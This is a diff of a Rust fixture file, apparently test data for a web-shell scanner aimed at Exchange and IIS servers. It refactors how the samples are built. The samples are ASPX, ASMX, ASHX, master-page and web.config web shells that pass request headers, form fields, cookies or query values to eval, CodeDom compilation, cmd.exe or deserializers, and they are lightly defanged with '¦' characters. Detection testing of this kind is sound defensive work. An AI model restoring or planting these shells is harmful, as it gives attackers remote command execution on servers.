@@ -378,49 +378,38 @@ const AFTERMATH: Aftermath = Aftermath {
     },
 };
 
-const fn odd(place: Place, name: &'static str, how: &'static str, text: &'static str) -> OddPage {
-    OddPage {
-        page: Page { place, name },
-        text,
-        how,
-        technique: Technique::ShellFile,
-        dated: None,
-        encoding: Encoding::Plain,
-    }
-}
-
 const ODD_CODE: [OddPage; 8] = [
-    odd(
+    OddPage::new(
         OWA_AUTH,
         "getprop.aspx",
         "indexing the global object by a joined name",
         "<%@ Page Language=\"JScript\"%><%var n=String.fromCharCode(101,118,97,108);this[n](Req¦uest.Headers[\"X-Tk\"],\"uns\"+'afe');%>",
     ),
-    odd(
+    OddPage::new(
         VERSIONED,
         "scriptforms.aspx",
         "CodeDom compiles what is sent",
         "<%@ Page Language=\"C#\"%><%@ Import Namespace=\"Microsoft.CSharp\"%><%@ Import Namespace=\"System.CodeDom.Compiler\"%><%var c=new CSharpCode¦Provider();var q=new CompilerParameters(){GenerateInMemory=true};var r=c.CompileAssembly¦FromSource(q,Req¦uest.Form[\"src\"]);r.Compiled¦Assembly.CreateInstance(\"K\").ToString();%>",
     ),
-    odd(
+    OddPage::new(
         SITE,
         "help.asmx",
         "a web service with a method that runs commands",
         "<%@ WebService Language=\"C#\" Class=\"H\" %>using System.Web.Services;using System.Diagnostics;public class H:WebService{[WebMethod]public string T(string a){var p=Pro¦cess.St¦art(new Process¦StartInfo(\"cm\"+\"d.e\"+\"xe\",\"/c \"+a){UseShellExecute=false,RedirectStandardOutput=true});return p.StandardOutput.ReadToEnd();}}",
     ),
-    odd(
+    OddPage::new(
         SITE,
         "tree.aspx",
         "a stylesheet with a script of its own",
         "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System.Xml.Xsl\" %><%var s=\"<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform' xmlns:ms='urn:schemas-microsoft-com:xslt' xmlns:u='u'><ms:scr¦ipt language='c#' implements-prefix='u'>\"+Req¦uest[\"x\"]+\"</ms:scr¦ipt></xsl:stylesheet>\";var t=new XslCompiled¦Transform();t.Load(new System.Xml.XmlTextReader(new System.IO.StringReader(s)),new XsltSettings(true,true),null);%>",
     ),
-    odd(
+    OddPage::new(
         OWA_AUTH,
         "signoutex.aspx",
         "VB with a class that runs what a cookie says",
         "<%@ Page Language=\"VB\" Debug=\"true\" %><script runat=\"server\">Sub Page_Load(s As Object,e As EventArgs):Dim p As New System.Diagnostics.Pro¦cess():p.StartInfo.File¦Name=Chr(99)&Chr(109)&Chr(100):p.StartInfo.Arguments=\"/c \"&Req¦uest.Cookies(\"lang\").Value:p.St¦art():End Sub</script>",
     ),
-    odd(
+    OddPage::new(
         CURRENT,
         "blank.aspx",
         "names in escapes of C#",
@@ -428,14 +417,14 @@ const ODD_CODE: [OddPage; 8] = [
     ),
     OddPage {
         encoding: Encoding::Wide,
-        ..odd(
+        ..OddPage::new(
             SCRIPTS,
             "premiumex.aspx",
             "stored as UTF-16",
             "<%@ Page Language=\"C#\"%><%new System.Web.UI.LosFor¦matter().Deserial¦ize(Req¦uest.Form[\"__S\"]);%>",
         )
     },
-    odd(
+    OddPage::new(
         RPC,
         "rpcproxy.aspx",
         "deserialises what it is sent",
@@ -444,7 +433,7 @@ const ODD_CODE: [OddPage; 8] = [
 ];
 
 const ODD_PLACES: [OddPage; 6] = [
-    odd(
+    OddPage::new(
         ACTIVE,
         "default2.aspx",
         "beside the protocol for phones",
@@ -452,32 +441,32 @@ const ODD_PLACES: [OddPage; 6] = [
     ),
     OddPage {
         dated: Some(Moment::day(2020, 12, 15).clock(23, 2, 55)),
-        ..odd(
+        ..OddPage::new(
             EXPORT_TOOL,
             "manifest.ashx",
             "back-dated to the day of the last update",
             "<%@ WebHandler Language=\"C#\" Class=\"M\" %>public class M:System.Web.IHttpHandler{public void ProcessRequest(System.Web.HttpContext c){System.Diagnostics.Pro¦cess.St¦art(c.Req¦uest[\"m\"]);}public bool IsReusable{get{return false;}}}",
         )
     },
-    odd(
+    OddPage::new(
         CURRENT,
         "frame.master",
         "a master page with the code of its page",
         "<%@ Master Language=\"C#\" %><script runat=\"server\">void Page_Init(object o,EventArgs e){System.Diagnostics.Pro¦cess.St¦art(\"cmd\",\"/c \"+Req¦uest[\"v\"]);}</script>",
     ),
-    odd(
+    OddPage::new(
         SITE,
         "web.config",
         "a page inside a web.config",
         "<?xml version=\"1.0\"?><configuration><system.webServer><handlers accessPolicy=\"Read,Script,Write\"><add name=\"cfg\" path=\"web.config\" verb=\"*\" modules=\"IsapiModule\" scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" resourceType=\"Unspecified\" /></handlers></system.webServer></configuration><!-- <% Response.Write(CreateObject(\"WScript.Sh¦ell\").Ex¦ec(\"cmd /c \" & Req¦uest(\"g\")).StdOut.ReadAll()) %> -->",
     ),
-    odd(
+    OddPage::new(
         Place { below: Below::Site, folder: "aspnet_client\\.thumbs", url: "/aspnet_client/.thumbs", protocol: None },
         "a.aspx;.jpg",
         "an odd name in a folder that begins with a dot",
         "<%@ Page Language=\"Jscript\"%><%ev¦al(Req¦uest.QueryString[\"t\"],\"uns¦afe\");%>",
     ),
-    odd(
+    OddPage::new(
         Place {
             below: Below::Product,
             folder: "FrontEnd\\HttpProxy\\ecp\\bin",
